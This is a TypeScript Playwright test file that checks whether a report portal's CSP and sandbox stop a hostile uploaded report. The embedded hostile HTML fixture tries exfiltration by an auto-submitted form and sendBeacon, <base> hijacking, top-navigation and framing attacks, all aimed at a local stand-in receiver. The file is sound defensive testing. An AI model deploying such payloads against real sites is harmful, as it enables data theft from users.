import { existsSync } from 'node:fs';
import fs from 'node:fs/promises';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import type { BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { freePort } from './helpers/free-port.ts';
import { LEGACY_KEY, startTestPortal, type TestPortal } from './helpers/portal.ts';
import { assertChromiumInstalled, CHROMIUM, launchChromiumProfile } from '../../../test-support/chromium.ts';
import { newSessionId, postUpload, sessionParts } from './helpers/upload.ts';

/**
 * A hostile report in Debian's Chromium (issue 11, point 14). The report tries to
 * auto-submit a form to another origin, send a beacon, set a `<base>` that re-points the
 * bridge's links, open a pop-up that escapes the sandbox, navigate the page that frames
 * it, and be framed by a site that may not. Each attempt aims at a local 127.0.0.1
 * receiver, and the test asserts on what the receivers got: nothing, except the pop-up's
 * own page load (pop-ups may open, but stay sandboxed).
 *
 * The portal allows exactly one framer (SVC_FRAME_ANCESTORS = the "allowed" server) so
 * that a framed report can be observed; any other origin is refused.
 */

interface Received {
  method: string;
  url: string;
  body: string;
}

/** A real HTTP server on 127.0.0.1 that records every request and answers `page(url)`. */
async function recordingServer(
  page: (url: string) => string,
): Promise<{ url: string; received: Received[]; close: () => Promise<void> }> {
  const received: Received[] = [];
  const server = http.createServer((req, res) => {
    const chunks: Buffer[] = [];
    let size = 0;
    req.on('data', (c: Buffer) => {
      size += c.length;
      if (size <= 64 * 1024) chunks.push(c);
    });
    req.on('end', () => {
      received.push({ method: req.method ?? '', url: req.url ?? '', body: Buffer.concat(chunks).toString('utf8') });
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store' });
      res.end(page(req.url ?? ''));
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    received,
    close: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

/** The embedding page of a framer: the share page in an iframe, and a log of what is posted to it. */
const framerPage = (shareUrl: string) => `<!doctype html><title>framer</title>
<script>
  window.svcMessages = [];
  window.addEventListener('message', function (e) { window.svcMessages.push({ data: e.data, origin: e.origin }); });
</script>
<iframe id="report" style="width:900px;height:600px" src="${shareUrl}"></iframe>`;

/** Everything a hostile report could try on load; results in <pre id="probe" data-done="1">. */
function hostileReport(receiver: string): string {
  return `<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8">
<script>
  // Before the <base>, so its refusal is seen too.
  window.violations = [];
  document.addEventListener('securitypolicyviolation', function (e) { window.violations.push(e.effectiveDirective); });
</script>
<base href="${receiver}/base/"><title>Hostile report</title></head>
<body>
<h1>Findings</h1>
<section id="consultation-section" class="consultation-section">
  <button id="scheduleBtn" type="button">Schedule a consultation</button>
</section>
<form id="exfil" action="${receiver}/form" method="post"><input type="hidden" name="secret" value="stolen"></form>
<a id="relative" href="relative-link">relative</a>
<button id="popupBtn" type="button" onclick="window.open('${receiver}/popup', '_blank')">open</button>
<pre id="probe" style="white-space:pre-wrap;word-break:break-all"></pre>
<script>
(function () {
  var out = { framed: window.top !== window, baseURI: document.baseURI, violations: window.violations, beacon: null, submit: null, top: null };
  function attempt(fn) {
    try { return { threw: false, value: String(fn()) }; }
    catch (e) { return { threw: true, name: String(e && e.name) }; }
  }
  // Once the bridge has run (it starts at DOMContentLoaded): a submit attempt stops the
  // parser in Chromium even when CSP then refuses it, which would cut the bridge off.
  // Top-level, the attack runs with #attack only (the other tests use the bridge's links).
  var attack = out.framed || location.hash === '#attack';
  document.addEventListener('DOMContentLoaded', function () {
    setTimeout(function () {
      if (attack) out.beacon = attempt(function () { return navigator.sendBeacon('${receiver}/beacon', 'stolen'); });
      if (attack) out.submit = attempt(function () { document.getElementById('exfil').submit(); return 'submitted'; });
      if (out.framed) out.top = attempt(function () { window.top.location.href = '${receiver}/top'; return 'assigned'; });
      // After the bridge's own click handler: a sentinel to any parent, so the framer
      // can tell that whatever the bridge posted has arrived by then.
      document.getElementById('scheduleBtn').addEventListener('click', function () {
        window.parent.postMessage({ type: 'sentinel' }, '*');
      });
      // CSP reports its refusals asynchronously, later on a loaded machine: wait for the ones the
      // attack must cause (bounded), so a slow report is not read as a missing refusal.
      var expected = attack ? ['connect-src', 'form-action'] : [];
      var started = Date.now();
      function finish() {
        var missing = expected.filter(function (d) { return window.violations.indexOf(d) < 0; });
        if (missing.length > 0 && Date.now() - started < 10000) return setTimeout(finish, 50);
        var pre = document.getElementById('probe');
        pre.textContent = JSON.stringify(out);
        pre.setAttribute('data-done', '1');
      }
      setTimeout(finish, 300);
    }, 0);
  });
})();
</script>
</body>
</html>
`;
}

interface Probe {
  framed: boolean;
  baseURI: string;
  violations: string[];
  beacon: { threw: boolean; value?: string };
  submit: { threw: boolean; value?: string };
  top: { threw: boolean; value?: string; name?: string } | null;
}

describe('a hostile report in Chromium', () => {
  let portal: TestPortal | undefined;
  let receiver: Awaited<ReturnType<typeof recordingServer>> | undefined;
  let allowedFramer: Awaited<ReturnType<typeof recordingServer>> | undefined;
  let otherFramer: Awaited<ReturnType<typeof recordingServer>> | undefined;
  let context: BrowserContext | undefined;
  let userDataDir: string | undefined;
  const sessionId = newSessionId();
  let token = '';

  const shareUrl = () => `${portal!.url}/share/?token=${token}`;
  const viewUrl = (file: string) =>
    `${portal!.url}/api/download?${new URLSearchParams({ session: sessionId, file, mode: 'view', token })}`;
  /** What the receiver got, other than the pop-up's own page (and the icon Chromium asks for with it). */
  const stolen = () => receiver!.received.filter((r) => r.url !== '/popup' && r.url !== '/favicon.ico');

  function requireChromium(): void {
    assertChromiumInstalled();
    if (context === undefined) throw new Error('the browser did not start (see the beforeAll error)');
  }

  async function readProbe(target: Page | ReturnType<Page['frameLocator']>): Promise<Probe> {
    const pre = target.locator('#probe[data-done="1"]');
    await pre.waitFor({ state: 'attached', timeout: 15_000 });
    return JSON.parse((await pre.textContent()) ?? '') as Probe;
  }

  beforeAll(async () => {
    if (!existsSync(CHROMIUM)) return;
    receiver = await recordingServer(() => '<!doctype html><title>receiver</title><h1>receiver</h1>');
    allowedFramer = await recordingServer(() => framerPage(shareUrl()));
    otherFramer = await recordingServer(() => framerPage(shareUrl()));
    const port = await freePort();
    portal = await startTestPortal({
      env: { PORT: String(port), SVC_BASE_URL: `http://127.0.0.1:${port}`, SVC_FRAME_ANCESTORS: allowedFramer.url },
    });
    const res = await postUpload(
      portal.url,
      LEGACY_KEY,
      sessionParts(
        {
          metadata: { session_id: sessionId, client: 'Acme Corp', target: '10.0.0.0/24' },
          summary: { risk_score: 50, risk_grade: 'C', total_findings: 1, total_hosts: 1 },
        },
        {
          report: hostileReport(receiver.url),
          exec: '<!doctype html><html><body><h1>Executive summary</h1></body></html>',
        },
      ),
    );
    if (res.status !== 200) throw new Error(`upload: ${res.status} ${res.text}`);
    token = String(res.body.share_token);
    userDataDir = await fs.mkdtemp(path.join(os.tmpdir(), 'svc-chromium-profile-'));
    context = await launchChromiumProfile(userDataDir, { width: 1024, height: 768 });
  });

  afterAll(async () => {
    await context?.close();
    await portal?.close();
    await receiver?.close();
    await allowedFramer?.close();
    await otherFramer?.close();
    for (const dir of [userDataDir, portal?.dataDir]) if (dir) await fs.rm(dir, { recursive: true, force: true });
  });

  it('cannot auto-submit a form, send a beacon or re-point the bridge with <base> (share page and inline view)', async () => {
    requireChromium();
    for (const url of [shareUrl(), viewUrl('report.html')]) {
      const page = await context!.newPage();
      const response = await page.goto(`${url}#attack`, { waitUntil: 'commit' });
      expect(response?.status(), url).toBe(200);
      // Playwright keeps waiting for the refused form navigation, so its locators would too: read by evaluation.
      await expect
        .poll(() => page.evaluate('document.getElementById("probe").getAttribute("data-done")'), { timeout: 15_000 })
        .toBe('1');
      const probe = JSON.parse(String(await page.evaluate('document.getElementById("probe").textContent'))) as Probe;
      expect(probe.framed, url).toBe(false);
      // form-action 'none': submit() is refused, the page stays where it is.
      expect(probe.violations, url).toContain('form-action');
      expect(page.url(), url).toBe(`${url}#attack`);
      // connect-src (default-src 'none') covers beacons.
      expect(probe.violations, url).toContain('connect-src');
      // base-uri 'none': the <base> is ignored; relative links resolve against the portal.
      expect(probe.violations, url).toContain('base-uri');
      expect(probe.baseURI, url).toBe(`${url}#attack`);
      expect(await page.evaluate('document.getElementById("relative").href')).toBe(new URL('relative-link', url).href);
      await page.close();
    }
    expect(stolen()).toEqual([]);
  });

  it("the bridge's executive-summary link is absolute and opens on the portal, not the <base>", async () => {
    requireChromium();
    const page = await context!.newPage();
    await page.goto(shareUrl());
    await readProbe(page);
    const link = page.locator('#svc-share-banner').getByRole('link', { name: 'Executive summary' });
    expect(await link.getAttribute('href')).toBe(viewUrl('exec_summary.html'));
    const [popup] = await Promise.all([context!.waitForEvent('page', { timeout: 15_000 }), link.click()]);
    await popup.waitForLoadState('load');
    expect(popup.url()).toBe(viewUrl('exec_summary.html'));
    expect(await popup.locator('h1').textContent()).toBe('Executive summary');
    await popup.close();
    await page.close();
    expect(stolen()).toEqual([]);
  });

  it('a pop-up opens but stays sandboxed: an opaque origin, no cookies', async () => {
    requireChromium();
    const page = await context!.newPage();
    await page.goto(shareUrl());
    await readProbe(page);
    const [popup] = await Promise.all([
      context!.waitForEvent('page', { timeout: 15_000 }),
      page.locator('#popupBtn').click(),
    ]);
    await popup.waitForLoadState('load');
    expect(popup.url()).toBe(`${receiver!.url}/popup`);
    expect(await popup.locator('h1').textContent()).toBe('receiver');
    // Without allow-popups-to-escape-sandbox the receiver's page is still in the sandbox.
    expect(await popup.evaluate('String(self.origin)')).toBe('null');
    expect(
      await popup.evaluate('(function () { try { return document.cookie; } catch (e) { return e.name; } })()'),
    ).toBe('SecurityError');
    await popup.close();
    await page.close();
    expect(receiver!.received.filter((r) => r.url === '/popup')).toEqual([{ method: 'GET', url: '/popup', body: '' }]);
    expect(stolen()).toEqual([]);
  });

  it('framed by the allowed site: cannot navigate it away, and the bridge posts nothing to a foreign origin', async () => {
    requireChromium();
    const page = await context!.newPage();
    await page.goto(`${allowedFramer!.url}/`);
    const frame = page.frameLocator('#report');
    const probe = await readProbe(frame);
    expect(probe.framed).toBe(true);
    // No allow-top-navigation: the assignment to top.location is refused.
    expect(probe.top).toEqual({ threw: true, name: 'SecurityError' });
    expect(probe.violations).toEqual(expect.arrayContaining(['base-uri', 'connect-src', 'form-action']));
    expect(page.url()).toBe(`${allowedFramer!.url}/`);
    expect(await frame.locator('#scheduleBtn').getAttribute('data-svc-bridge')).toBe('wired');
    await frame.locator('#scheduleBtn').click();
    // The report's own sentinel (posted after the bridge's handler ran) arrives; the
    // bridge's message, addressed to the portal's origin only, does not.
    await expect.poll(() => page.evaluate('window.svcMessages.length'), { timeout: 10_000 }).toBeGreaterThan(0);
    expect(await page.evaluate('window.svcMessages')).toEqual([{ data: { type: 'sentinel' }, origin: 'null' }]);
    expect(page.url()).toBe(`${allowedFramer!.url}/`);
    await page.close();
    expect(stolen()).toEqual([]);
  });

  it('cannot be framed by any other origin', async () => {
    requireChromium();
    const page = await context!.newPage();
    const framed = page.waitForResponse((r) => r.url() === shareUrl(), { timeout: 15_000 });
    await page.goto(`${otherFramer!.url}/`);
    const response = await framed;
    expect(response.status()).toBe(200);
    expect(response.headers()['content-security-policy']).toContain(`frame-ancestors ${allowedFramer!.url}`);
    // Chromium replaces the refused document with its error page: the report never runs.
    const child = page.frames().find((f) => f !== page.mainFrame());
    expect(child).toBeDefined();
    await expect.poll(() => child!.url(), { timeout: 10_000 }).toBe('chrome-error://chromewebdata/');
    expect(await page.frameLocator('#report').locator('#probe').count()).toBe(0);
    await page.close();
    expect(stolen()).toEqual([]);
    expect(otherFramer!.received.map((r) => r.url).filter((u) => u !== '/favicon.ico')).toEqual(['/']);
  });
});
